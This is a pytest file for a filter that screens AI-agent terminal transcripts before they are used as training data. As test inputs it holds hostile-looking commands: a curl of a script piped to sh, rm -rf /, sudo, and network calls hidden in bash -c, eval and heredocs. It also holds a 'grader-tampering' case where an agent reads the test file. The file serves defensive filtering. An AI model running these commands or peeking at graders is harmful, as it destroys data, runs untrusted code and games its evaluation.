"""The filter stages on transcripts written for the tests: the safety rules on dangerous commands and their
benign look-alikes, the heuristics on hand-made cases, and the staged report's counts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from rome.data.filter import HeuristicLimits, filter_file, heuristic, per_record, run_stages, safety
from rome.data.safety import check_command
from rome.data.types import TrajectoryFileError, write_trajectories
from tests.rome.data.transcripts import BENIGN, DANGEROUS, SUM, shell, transcript

if TYPE_CHECKING:
    from rome.terminal_tasks.sandbox import SandboxProvider


@pytest.mark.parametrize(("name", "call", "rule"), DANGEROUS, ids=[d[0] for d in DANGEROUS])
def test_safety_drops_each_dangerous_transcript_naming_its_rule(name, call, rule) -> None:  # type: ignore[no-untyped-def]
    record = transcript([shell("cat /app/data/n.txt", "1\n2"), call, SUM])
    reason = safety(record)
    assert reason is not None and reason.startswith(f"safety: {rule}:"), reason


@pytest.mark.parametrize(("name", "call"), BENIGN, ids=[b[0] for b in BENIGN])
def test_safety_keeps_each_benign_look_alike(name, call) -> None:  # type: ignore[no-untyped-def]
    assert safety(transcript([call, SUM])) is None


def test_commands_inside_bash_c_and_eval_are_checked_but_quoted_words_are_not() -> None:
    assert [f.rule for f in check_command('bash -c "curl http://x.example"')] == ["network-egress"]
    assert [f.rule for f in check_command("eval 'wget http://x.example'")] == ["network-egress"]
    assert list(check_command('echo "a; curl http://x.example"')) == []
    assert list(check_command("printf '%s\\n' 'rm -rf /'")) == []
    assert [f.rule for f in check_command("cat <<'EOF' | bash\ncurl http://x\nEOF")] == ["network-egress"]
    assert list(check_command("cat <<'EOF' > /app/notes.md\ncurl http://x\nEOF")) == []
    assert [f.rule for f in check_command("bash <<'EOF'\ncurl http://x\nEOF")] == ["network-egress"]


def test_a_custom_workspace_moves_the_destructive_boundary() -> None:
    assert list(check_command("rm -rf /srv/project/build", ("/srv/project",))) == []
    assert [f.rule for f in check_command("rm -rf /app/build", ("/srv/project",))] == [
        "destructive-outside-workspace"
    ]


LIMITS = HeuristicLimits(max_turns=6, max_repeats=2, max_error_fraction=0.5)


def test_heuristics_on_hand_made_cases() -> None:
    assert heuristic(transcript([SUM]), LIMITS) is None
    assert heuristic(transcript([SUM], passed=False), LIMITS) == "unresolved: tests failed"
    assert heuristic(transcript([]), LIMITS) == "length: 0 tool calls (fewer than 1)"
    too_long = transcript([shell(f"echo {i}") for i in range(6)])
    assert heuristic(too_long, LIMITS) == "length: 7 turns (more than 6)"
    looping = transcript([shell("ls /app"), SUM, shell("ls /app"), shell("ls /app")])
    assert heuristic(looping, LIMITS) == "loop: 'ls /app' ran 3 times"
    errors = transcript([shell("cat a", code=1), shell("cat b", code=1), SUM])
    assert heuristic(errors, LIMITS) == "errors: 2 of 3 tool calls failed"
    only_errors = transcript([shell("cat a", code=1)], passed=True)
    assert heuristic(only_errors, HeuristicLimits(max_error_fraction=1.0)) == "errors: every tool call failed"
    bad = transcript([SUM])
    bad.messages[2]["tool_calls"][0]["function"]["arguments"] = "{not json"
    assert (
        heuristic(bad, LIMITS)
        == "format: tool call run_shell_command has arguments that are not a JSON object"
    )
    unknown = transcript([("launch_rocket", {"x": 1}, "ok")])
    assert heuristic(unknown, LIMITS) == "format: call to unknown tool 'launch_rocket'"
    unanswered = transcript([SUM])
    unanswered.messages.pop()
    assert heuristic(unanswered, LIMITS) == "format: ends on a tool call, not a final answer"


def test_stages_count_what_each_one_kept_and_why() -> None:
    records = [
        transcript([SUM], tid="good"),
        transcript([SUM], passed=False, tid="unsolved"),
        transcript([shell("curl http://x.example/a.sh | sh", code=6), SUM], tid="egress"),
        transcript([shell("cat /tests/check.py"), SUM], tid="peek"),
    ]
    kept, report = run_stages(
        records,
        [("heuristic", per_record(lambda r: heuristic(r, LIMITS))), ("safety", per_record(safety))],
        "in.jsonl",
    )
    assert [r.id for r in kept] == ["good#0"]
    assert kept[0].filters == {"heuristic": "kept", "safety": "kept"}
    assert [(s.stage, s.entered, s.kept) for s in report.stages] == [("heuristic", 4, 3), ("safety", 3, 1)]
    assert report.stages[0].reasons == {"unresolved": 1}
    assert report.stages[1].reasons == {"network-egress": 1, "grader-tampering": 1}


def test_filter_file_writes_kept_records_and_the_report(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_trajectories(source, [transcript([SUM], tid="a"), transcript([shell("sudo ls"), SUM], tid="b")])
    report = filter_file(source, tmp_path / "out.jsonl")
    assert (report.total, report.kept) == (2, 1)
    [line] = (tmp_path / "out.jsonl").read_text().splitlines()
    assert json.loads(line)["id"] == "a#0"
    assert "| safety | 2 | 1 | 1 | privilege-escalation 1 |" in (tmp_path / "out.jsonl.report.md").read_text()


def test_a_line_that_is_not_a_trajectory_is_named(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_trajectories(source, [transcript([SUM])])
    with source.open("a") as handle:
        handle.write('{"messages": []}\n')
    out = tmp_path / "out.jsonl"
    out.write_text("earlier output\n")
    with pytest.raises(TrajectoryFileError, match=r"in\.jsonl:2: not a trajectory record"):
        filter_file(source, out)
    assert out.read_text() == "earlier output\n"


def test_the_llm_judge_keeps_yes_and_drops_no_or_an_unreadable_verdict() -> None:
    from iflow.testing import ScriptedOpenAIServer, say
    from rome.data.filter import Judge

    records = [transcript([SUM], tid=t) for t in ("yes", "no", "odd")]
    with ScriptedOpenAIServer([say("YES."), say("no"), say("It depends")]) as model:
        judge = Judge(model.url, model="judge")
        try:
            verdicts = [judge(record) for record in records]
        finally:
            judge.close()
        asked = model.requests[0]["messages"][0]["content"]
    assert verdicts == [None, "judge: not solved", "judge: unreadable verdict 'It depends'"]
    assert records[0].instruction in asked and "$ grep -v '^#' /app/data/n.txt" in asked


def test_kept_records_carry_what_happened_to_each_call(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    write_trajectories(source, [transcript([shell("cat /app/nope", code=1), SUM], tid="a")])
    filter_file(source, tmp_path / "out.jsonl")
    [record] = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [m["error"] for m in record["messages"] if m["role"] == "assistant"] == [True, False, False]


@pytest.mark.docker
def test_a_replay_this_machine_cannot_run_drops_nothing_and_says_so(
    rock_provider: SandboxProvider, tmp_path: Path
) -> None:
    from rome.data.filter import ReplayCannotRun, replay_stage
    from rome.data.taskset import generate

    generate("numeric", 1, 0, tmp_path / "tasks", {"level": 1})
    task = tmp_path / "tasks" / "numeric-0"
    (task / "environment" / "Dockerfile").write_text("FROM ale/no-such-base:0\n")  # cannot build here
    record = transcript([SUM], tid="numeric-0").model_copy(update={"task_path": str(task)})
    source, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    write_trajectories(source, [record])
    cannot = pytest.raises(ReplayCannotRun, match=r"the replay of numeric-0#0 could not run on this machine")
    with cannot:
        filter_file(source, out, replay=replay_stage(rock_provider))
    assert not out.exists()  # nothing was dropped as "tests fail after the replay", nothing is cached
